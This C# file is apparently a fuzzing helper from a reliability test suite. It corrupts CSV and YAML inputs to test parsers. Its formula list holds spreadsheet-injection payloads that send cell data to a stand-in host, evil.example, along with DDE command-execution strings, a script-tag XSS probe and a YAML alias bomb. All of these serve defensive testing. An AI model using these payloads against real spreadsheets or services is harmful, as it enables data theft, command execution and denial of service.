using System.Text;

namespace Scrutineer.Reliability.Tests.Fuzzing;

/// <summary>
/// Damages a valid text input (CSV or YAML) in one of the ways a real file goes wrong: cut short, saved in another
/// encoding, a field of megabytes, a spreadsheet formula where a value should be, lines lost, doubled or swapped, wrong
/// column counts, stray bytes, a YAML alias bomb. Deterministic: case N of a given seed is always the same input.
/// </summary>
public sealed class TextMutator(byte[] valid, char separator = ',')
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")",
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
        "\t=1+1",
        "<script>alert('x')</script>",
    ];

    private readonly string text = Encoding.UTF8.GetString(valid);

    /// <summary>The first <paramref name="count"/> cases, cycling through every <see cref="TextMutation"/>.</summary>
    public IEnumerable<MutatedInput> Cases(int count, int seed = 20261121)
    {
        var kinds = Enum.GetValues<TextMutation>();
        for (var i = 0; i < count; i++)
        {
            var random = new Random(seed + i);
            var kind = kinds[i % kinds.Length];
            var (description, bytes) = Mutate(kind, random);
            yield return new MutatedInput(i, $"{kind}: {description}", bytes);
        }
    }

    private (string, byte[]) Mutate(TextMutation kind, Random random)
    {
        var lines = text.Split('\n').ToList();
        switch (kind)
        {
            case TextMutation.Truncate:
                var at = random.Next(0, valid.Length);
                return ($"cut at byte {at}", valid[..at]);
            case TextMutation.Utf16:
                var bigEndian = random.Next(2) == 0;
                var encoding = new UnicodeEncoding(bigEndian, byteOrderMark: random.Next(2) == 0);
                return ($"UTF-16 {(bigEndian ? "BE" : "LE")}", [.. encoding.GetPreamble(), .. encoding.GetBytes(text)]);
            case TextMutation.Latin1:
                var accented = Insert(text, random, "Café Öffentlichkeit £ ½ — “quoted”");
                return ("Windows-1252 with accented text", Encoding.Latin1.GetBytes(accented));
            case TextMutation.InvalidUtf8:
                var bad = valid.ToList();
                for (var n = random.Next(1, 6); n > 0; n--)
                {
                    bad.InsertRange(random.Next(bad.Count + 1), new[] { (byte)0xC3, (byte)0x28, (byte)0xFF, (byte)0xFE }[..random.Next(1, 5)]);
                }

                return ("invalid UTF-8 sequences", bad.ToArray());
            case TextMutation.HugeField:
                var size = new[] { 4_001, 70_000, 1_100_000 }[random.Next(3)];
                return ($"a value of {size:N0} characters", Utf8(ReplaceValue(lines, random, new string('W', size))));
            case TextMutation.Formula:
                var formula = Formulas[random.Next(Formulas.Length)];
                return ($"value replaced by {formula}", Utf8(ReplaceValue(lines, random, formula)));
            case TextMutation.DeleteLine:
                var deleted = random.Next(lines.Count);
                lines.RemoveAt(deleted);
                return ($"line {deleted + 1} deleted", Utf8(string.Join('\n', lines)));
            case TextMutation.DuplicateLine:
                var doubled = random.Next(lines.Count);
                lines.Insert(doubled, lines[doubled]);
                return ($"line {doubled + 1} doubled", Utf8(string.Join('\n', lines)));
            case TextMutation.SwapLines:
                var a = random.Next(lines.Count);
                var b = random.Next(lines.Count);
                (lines[a], lines[b]) = (lines[b], lines[a]);
                return ($"lines {a + 1} and {b + 1} swapped", Utf8(string.Join('\n', lines)));
            case TextMutation.ExtraSeparator:
                var wider = random.Next(lines.Count);
                lines[wider] = Insert(lines[wider], random, new string(separator, random.Next(1, 4)));
                return ($"extra '{separator}' on line {wider + 1}", Utf8(string.Join('\n', lines)));
            case TextMutation.MissingSeparator:
                var narrower = random.Next(lines.Count);
                var index = lines[narrower].IndexOf(separator, StringComparison.Ordinal);
                lines[narrower] = index < 0 ? lines[narrower] + separator : lines[narrower].Remove(index, 1);
                return ($"'{separator}' removed on line {narrower + 1}", Utf8(string.Join('\n', lines)));
            case TextMutation.UnbalancedQuote:
                var quoted = random.Next(lines.Count);
                lines[quoted] = Insert(lines[quoted], random, "\"");
                return ($"stray quote on line {quoted + 1}", Utf8(string.Join('\n', lines)));
            case TextMutation.Indentation:
                var shifted = random.Next(lines.Count);
                lines[shifted] = random.Next(2) == 0 ? "   " + lines[shifted] : lines[shifted].TrimStart();
                return ($"indentation changed on line {shifted + 1}", Utf8(string.Join('\n', lines)));
            case TextMutation.ByteFlips:
                var flipped = (byte[])valid.Clone();
                var flips = random.Next(1, 12);
                for (var n = 0; n < flips && flipped.Length > 0; n++)
                {
                    flipped[random.Next(flipped.Length)] ^= (byte)(1 << random.Next(8));
                }

                return ($"{flips} bits flipped", flipped);
            case TextMutation.ControlCharacters:
                return ("NUL and control characters inserted", Utf8(Insert(Insert(text, random, "\0\0"), random, "\u0001\u001b[31m\u007f\u2028")));
            case TextMutation.GarbageLine:
                var garbage = new string(Enumerable.Range(0, random.Next(1, 200)).Select(_ => (char)random.Next(32, 0x2FFF)).ToArray());
                lines.Insert(random.Next(lines.Count + 1), garbage);
                return ("a line of random characters", Utf8(string.Join('\n', lines)));
            case TextMutation.AliasBomb:
                var bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
                for (var n = 'b'; n <= 'j'; n++)
                {
                    bomb.Append(n).Append(": &").Append(n).Append(" [").Append(string.Join(',', Enumerable.Repeat("*" + (char)(n - 1), 9))).Append("]\n");
                }

                return ("a YAML alias bomb (billion laughs) prepended", Utf8(bomb + text));
            case TextMutation.DeepNesting:
                var depth = random.Next(1_000, 20_000);
                return ($"nesting {depth:N0} deep", Utf8(Insert(text, random, new string('[', depth) + new string(']', depth))));
            case TextMutation.Empty:
                var empty = new[] { "", "\uFEFF", "   \n\n  \t", "\n" }[random.Next(4)];
                return ("empty or blank file", Utf8(empty));
        }

        throw new ArgumentOutOfRangeException(nameof(kind), kind, null);
    }

    /// <summary>Replaces the value after a "key:" (YAML) or a cell (CSV) on a random line that has one.</summary>
    private string ReplaceValue(List<string> lines, Random random, string value)
    {
        var candidates = Enumerable.Range(0, lines.Count).Where(i => lines[i].Contains(':', StringComparison.Ordinal) || lines[i].Contains(separator, StringComparison.Ordinal)).ToList();
        if (candidates.Count == 0)
        {
            return value;
        }

        var line = candidates[random.Next(candidates.Count)];
        var colon = lines[line].IndexOf(": ", StringComparison.Ordinal);
        if (colon >= 0)
        {
            lines[line] = lines[line][..(colon + 2)] + "\"" + value.Replace("\"", "\\\"", StringComparison.Ordinal) + "\"";
        }
        else
        {
            var cells = lines[line].Split(separator);
            cells[random.Next(cells.Length)] = value.Contains(separator, StringComparison.Ordinal) || value.Contains('"', StringComparison.Ordinal)
                ? "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\""
                : value;
            lines[line] = string.Join(separator, cells);
        }

        return string.Join('\n', lines);
    }

    private static string Insert(string into, Random random, string what) => into.Insert(random.Next(into.Length + 1), what);

    private static byte[] Utf8(string value) => Encoding.UTF8.GetBytes(value);
}
